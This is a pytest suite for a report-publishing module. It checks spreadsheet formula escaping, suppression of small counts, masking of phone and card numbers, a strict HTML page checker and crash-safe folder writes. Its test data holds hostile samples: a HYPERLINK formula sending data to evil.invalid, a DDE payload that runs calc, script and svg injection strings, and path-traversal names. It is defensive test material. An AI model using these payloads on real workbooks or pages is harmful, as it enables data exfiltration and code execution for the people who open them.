"""The door out: nothing evaluated, nothing loaded, nobody named, whole folders or none."""

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dealerqm import publish as door
from dealerqm.errors import PublishError
from dealerqm.publish import Sheet, publish

PHONE, CARD = "13800138000", "6222021234567890128"
STYLE = "p{color:#333}"
SCRIPT = (Path(door.__file__).parents[1] / "templates" / "report.js").read_text(encoding="utf-8")


def page(body="<p>ok</p>", style=STYLE, head=""):
    return (
        '<!doctype html><html lang="zh-CN"><head><meta charset="utf-8">'
        f'<meta http-equiv="Content-Security-Policy" content="{door.policy(style)}">{head}'
        f"<title>t</title><style>{style}</style></head><body>{body}</body></html>"
    )


def read(folder):
    return {path.name: path.read_bytes() for path in sorted(folder.iterdir())}


# ---------------------------------------------------------------- cells


RISKY = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
    "\t=1+1", "\tplain", "\rplain", "\r=1", "\u00a0=1+1", " =1+1", "\u3000＝1+1", "＋1", "－1",
    "＠A1", "\u200b=1", "'=1+1", "好评\n=1+1", "好评\r\n -1", "a\r=1", "a\u2028=1", "好\n\n\t=1",
]  # fmt: skip
HARMLESS = ["好评", "a=1", "3-4", "'quoted'", "", "–", "…", "5", "a\nb", "%0A=1+1", "|=1+1"]


def lines(text):
    return text.replace("\r\n", "\n").splitlines() or [text]


@pytest.mark.parametrize("text", RISKY)
def test_risky_text_is_escaped_and_comes_back_unchanged(text):
    safe = door.escape_cell(text)
    assert safe != text and door.unescape_cell(safe) == text
    for line in lines(safe):
        assert line.lstrip(" \u00a0\u3000\u200b\t")[:1] not in "=+-@＝＋－＠" or not line.strip()


@pytest.mark.parametrize("value", [*HARMLESS, -2, -2.5, 0, True, None, date(2026, 9, 30)])
def test_numbers_and_harmless_text_stay_as_they_are(value):
    assert door.escape_cell(value) == value
    assert not isinstance(value, str) or door.unescape_cell(value) == value


@given(st.text(alphabet=st.sampled_from("=+-@'ab \t\r\n\u00a0\u3000＝\u200b\x85"), max_size=12))
def test_escaping_loses_nothing_and_leaves_no_line_that_starts_a_formula(text):
    safe = door.escape_cell(text)
    assert door.unescape_cell(safe) == text
    for line in safe.splitlines():
        assert not line.strip(" \t\u00a0\u3000\u200b").startswith(("=", "+", "-", "@", "＝"))


# ---------------------------------------------------------------- small counts


def people():
    return pd.DataFrame({
        "store": ["S1", "S2", "S3", "S4", "S5"], "n": [0, 1, 4, 5, 40],
        "value": [np.nan, 1.0, 0.0, 1.0, 0.9], "beyond": [False, True, True, False, True],
    })  # fmt: skip


def test_nothing_is_said_about_one_to_four_people():
    table = door.suppress(people(), {"n": ["value", "beyond"]}, k=5)
    assert list(table["suppressed"]) == [False, True, True, False, False]
    hidden = table[table["suppressed"]]
    assert hidden[["n", "value", "beyond"]].isna().all(axis=None)
    assert list(table["n"].dropna()) == [0, 5, 40] and list(table["value"].dropna()) == [1.0, 0.9]


def test_the_default_hides_all_fractions_beside_n():
    assert door.suppress(people(), k=5)["value"].isna().sum() == 3


def test_a_table_without_small_counts_or_with_k_one_is_the_same():
    whole = people().query("n >= 5")
    pd.testing.assert_frame_equal(door.suppress(whole, k=5), whole)
    pd.testing.assert_frame_equal(door.suppress(people(), k=1), people())
    with pytest.raises(PublishError, match="'m' is not known"):
        door.suppress(people(), {"m": []}, k=5)


@given(st.lists(st.integers(0, 12), min_size=1), st.integers(1, 8))
def test_no_count_below_k_survives(counts, k):
    table = pd.DataFrame({"n": counts, "value": 0.5})
    shown = door.suppress(table, k=k)
    kept = shown["n"].dropna().astype(int)
    assert not ((kept >= 1) & (kept < k)).any()
    small = table["n"].between(1, k - 1)
    assert shown.loc[small, "value"].isna().all() and shown.loc[~small, "value"].notna().all()


def test_json_hides_small_groups_and_masks_text():
    data = {"a": {"n": 3, "value": 1.0, "unit": "S1"}, "b": [{"n": 5, "value": 1 / 3}], "t": PHONE}
    found = json.loads(door.json_bytes(data, 5))
    assert found["a"] == {"n": None, "value": None, "unit": "S1", "suppressed": True}
    assert found["b"] == [{"n": 5, "value": 0.333333333333}] and found["t"] == "[mobile]"
    digest = hashlib.sha256(b"x").hexdigest()
    assert json.loads(door.json_bytes({"d": digest, "x": float("nan")}, 5)) == {
        "d": digest,
        "x": None,
    }


# ---------------------------------------------------------------- workbooks


def sheets():
    frame = people().assign(comment=[*RISKY[:3], f"回电{PHONE}", "bell\x07"])
    return {"数据": Sheet(frame, {"value": "数值\nvalue"}, {"n": ["value"]}, {"value": [True] * 5})}


def test_a_workbook_holds_no_formula_no_small_count_and_no_person():
    cells = openpyxl.load_workbook(io.BytesIO(door.workbook_bytes(sheets(), 5)))["数据"]
    assert {cell.data_type for row in cells for cell in row} <= {"s", "n", "b"}
    rows = list(cells.values)
    assert rows[0] == ("store", "n", "数值\nvalue", "beyond", "comment", "suppressed")
    assert rows[2] == ("S2", None, None, True, "'+cmd|' /C calc'!A0", True)
    assert rows[4] == ("S4", 5, 1, False, "回电[mobile]", False) and rows[5][4] == "bell\ufffd"
    assert cells["C5"].number_format == "0.0%"


def test_text_of_a_workbook_comes_back_unchanged():
    frame = pd.DataFrame({"text": RISKY + HARMLESS})
    book = openpyxl.load_workbook(io.BytesIO(door.workbook_bytes({"t": Sheet(frame)}, 5)))
    found = [door.unescape_cell(row[0] or "") for row in list(book["t"].values)[1:]]
    plain = [text.replace("\r\n", "\n").replace("\r", "\n") for text in RISKY + HARMLESS]
    assert found == plain


def test_the_same_sheets_give_the_same_bytes_without_a_date():
    raw = door.workbook_bytes(sheets(), 5)
    assert raw == door.workbook_bytes(sheets(), 5)
    with zipfile.ZipFile(io.BytesIO(raw)) as parts:
        assert {entry.date_time for entry in parts.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = parts.read("docProps/core.xml").decode()
    assert core.count("2000-01-01T00:00:00Z") == 2


# ---------------------------------------------------------------- pages


def test_a_page_with_its_policy_and_the_own_script_passes():
    svg = (
        '<svg role="img"><use href="#a"/></svg><a href="tables.xlsx">x</a><a href="n.html#b">y</a>'
    )
    door.check_page("a.html", page(svg + f"<script>{SCRIPT}</script>"))


BAD = {
    "no policy": page().replace("Content-Security-Policy", "Content-Language"),
    "late policy": page(head="").replace("<head>", "<head><script></script>"),
    "loose policy": page().replace("default-src 'none'", "default-src *"),
    "unsafe policy": page().replace("img-src", "script-src 'unsafe-inline'; img-src"),
    "other script": page("<script>alert(1)</script>"),
    "script from afar": page('<script src="//evil.invalid/a.js"></script>'),
    "handler": page('<p onclick="a()">x</p>'),
    "style attribute": page('<p style="background:url(x)">x</p>'),
    "picture from afar": page('<img src="http://evil.invalid/a.png">'),
    "address in a text": page("<p>see http://evil.invalid/</p>"),
    "relative escape": page('<a href="../../secret.html">x</a>'),
    "javascript": page('<a href="javascript:alert(1)">x</a>'),
    "page as data": page('<a href="data:text/html;base64,AAAA">x</a>'),
    "frame": page('<iframe srcdoc="x"></iframe>'),
    "form": page('<form action="x.html"></form>'),
    "base": page(head='<base href="x.html">'),
    "refresh": page(head='<meta http-equiv="refresh" content="0">'),
    "import": page(style="@import 'a.css';"),
    "font from afar": page(style="@font-face{src:url(//evil.invalid/a.woff)}"),
    "style not named": page().replace("#333", "#444"),
    "svg image": page('<svg><image xlink:href="//evil.invalid/a"/></svg>'),
    "svg foreign": page("<svg><foreignObject><p>x</p></foreignObject></svg>"),
    "svg animation": page('<svg><set attributeName="href" to="javascript:alert(1)"/></svg>'),
}


@pytest.mark.parametrize("name", BAD)
def test_a_page_that_could_load_or_run_something_is_refused(name, tmp_path):
    with pytest.raises(PublishError, match="nothing was published"):
        publish(tmp_path / "r", {"index.html": BAD[name]}, k=5)
    assert list(tmp_path.iterdir()) == []


def test_a_page_is_masked_in_its_texts_and_spoken_attributes_only():
    body = f'<p title="{PHONE}">回电 138-0013-8000 &amp; {CARD}</p><path d="M{PHONE} 1"/>'
    shown = door.mask_page(page(body))
    assert "[mobile] &amp; [bank_card]" in shown and 'title="[mobile]"' in shown
    assert f'd="M{PHONE} 1"' in shown
    assert door.mask_page(page("<p>1 &lt; 2</p>")) == page("<p>1 &lt; 2</p>")


# ---------------------------------------------------------------- the folder


FILES = {"index.html": page(), "facts.json": {"a": 1}, "tables.xlsx": {"t": Sheet(people())}}


def test_a_folder_is_written_whole_with_its_manifest(tmp_path):
    said = []
    manifest = publish(tmp_path / "2026Q3", FILES, k=5, stamp={"snapshot": "s1"}, log=said.append)
    found = read(tmp_path / "2026Q3")
    assert set(found) == {*FILES, "manifest.json"}
    assert json.loads(found["manifest.json"]) == manifest and said == [manifest]
    assert manifest["snapshot"] == "s1" and manifest["k"] == 5
    for name, entry in manifest["files"].items():
        assert entry == {
            "bytes": len(found[name]),
            "sha256": hashlib.sha256(found[name]).hexdigest(),
        }
    publish(tmp_path / "again", FILES, k=5, stamp={"snapshot": "s1"})
    assert read(tmp_path / "again") == found


def test_a_new_report_takes_the_place_of_the_old_one(tmp_path):
    publish(tmp_path / "r", {**FILES, "old.json": {}}, k=5)
    publish(tmp_path / "r", FILES, k=5)
    assert "old.json" not in read(tmp_path / "r")
    assert {path.name for path in tmp_path.iterdir()} == {"r", ".r.lock"}


@pytest.mark.parametrize("name", [
    "../evil.json", "a/b.json", "/etc/passwd.json", "..", ".hidden.json", "con\x00.json", "a.exe",
    "manifest.json", "a.svg", "a b.json",
])  # fmt: skip
def test_only_plain_names_of_known_kinds_are_written(name, tmp_path):
    with pytest.raises(PublishError, match="report file"):
        publish(tmp_path / "r", {name: {"a": 1}}, k=5)
    with pytest.raises(PublishError, match="report folder"):
        publish(tmp_path / "a b", FILES, k=5)
    assert list(tmp_path.iterdir()) == []


class Faulty:
    """Lets a function of the system fail from its nth call on."""

    def __init__(self, real, n, error):
        self.real, self.left, self.error = real, n, error

    def __call__(self, *args, **more):
        self.left -= 1
        if self.left < 0:
            raise self.error
        return self.real(*args, **more)


FAULTS = [
    ("os.fsync", 0, OSError(28, "No space left on device")),
    ("os.fsync", 2, OSError(28, "No space left on device")),
    ("os.fsync", 4, OSError(5, "Input/output error")),
    ("pathlib.Path.mkdir", 1, PermissionError(13, "Permission denied")),
    ("pathlib.Path.rename", 0, PermissionError(13, "Permission denied")),
]


@pytest.mark.parametrize(("place", "n", "error"), FAULTS)
def test_a_fault_leaves_the_earlier_report_as_it_was(place, n, error, tmp_path, monkeypatch):
    publish(tmp_path / "r", FILES, k=5)
    before = read(tmp_path / "r")
    module, _, name = place.rpartition(".")
    owner = os if module == "os" else Path
    faulty = Faulty(getattr(owner, name), n, error)
    with monkeypatch.context() as patch:
        patch.setattr(owner, name, lambda *args, **more: faulty(*args, **more))
        with pytest.raises(PublishError, match="unchanged") as told:
            publish(tmp_path / "r", {**FILES, "more.json": {}}, k=5)
    assert error.strerror in str(told.value) and str(tmp_path) not in str(told.value)
    assert read(tmp_path / "r") == before
    publish(tmp_path / "r", FILES, k=5)
    assert {path.name for path in tmp_path.iterdir()} == {"r", ".r.lock"}


def test_when_the_last_step_fails_the_earlier_report_comes_back(tmp_path, monkeypatch):
    publish(tmp_path / "r", FILES, k=5)
    before, real = read(tmp_path / "r"), Path.rename

    def rename(self, target):
        if self.name == ".r.new":
            raise PermissionError(13, "Permission denied")
        return real(self, target)

    with monkeypatch.context() as patch:
        patch.setattr(Path, "rename", rename)
        with pytest.raises(PublishError, match="Permission denied"):
            publish(tmp_path / "r", {"index.html": page("<p>new</p>")}, k=5)
    assert read(tmp_path / "r") == before


def test_a_target_that_cannot_hold_a_folder_is_told(tmp_path):
    (tmp_path / "file").write_text("x", encoding="utf-8")
    with pytest.raises(PublishError, match="cannot be written"):
        publish(tmp_path / "file" / "r", FILES, k=5)


KILL = """
import os, sys
from pathlib import Path
from dealerqm.publish import publish
target, left = Path(sys.argv[1]), [int(sys.argv[2])]
steps = {"open", "os.mkdir", "os.rename", "os.rmdir", "os.remove", "shutil.rmtree"}
def hook(event, args):
    if event in steps and str(target.parent) in str(args[0]):
        left[0] -= 1
        if left[0] < 0:
            os._exit(9)
sys.addaudithook(hook)
publish(target, {"a.json": {"new": 1}, "b.json": {}}, k=5)
"""


@pytest.mark.parametrize("step", [1, 3, 5, 6, 7, 8, 9, 11])
def test_a_run_that_is_killed_leaves_the_old_or_the_new_report(step, tmp_path):
    publish(tmp_path / "r", {"a.json": {"old": 1}}, k=5)
    before = read(tmp_path / "r")
    done = subprocess.run([sys.executable, "-c", KILL, str(tmp_path / "r"), str(step)], check=False)
    assert done.returncode in (0, 9)
    there = tmp_path / "r" if (tmp_path / "r").exists() else tmp_path / ".r.old"
    found = read(there)
    assert found == before or json.loads(found["a.json"]) == {"new": 1}
    publish(tmp_path / "r", {"a.json": {"last": 1}}, k=5)
    assert json.loads(read(tmp_path / "r")["a.json"]) == {"last": 1}
    assert {path.name for path in tmp_path.iterdir()} == {"r", ".r.lock"}


def test_two_runs_do_not_write_one_report_at_once(tmp_path, monkeypatch):
    from filelock import FileLock

    monkeypatch.setattr("dealerqm.publish.door.PATIENCE_S", 0.1)
    with (
        FileLock(tmp_path / ".r.lock"),
        pytest.raises(PublishError, match="another run is writing"),
    ):
        publish(tmp_path / "r", FILES, k=5)


def test_hostile_texts_of_a_table_leave_as_harmless_cells():
    reader = csv.reader(io.StringIO("\n".join(f'"{t}"' for t in ("=1+1", "＝1+1", "@x"))))
    assert [door.escape_cell(row[0])[0] for row in reader] == ["'"] * 3
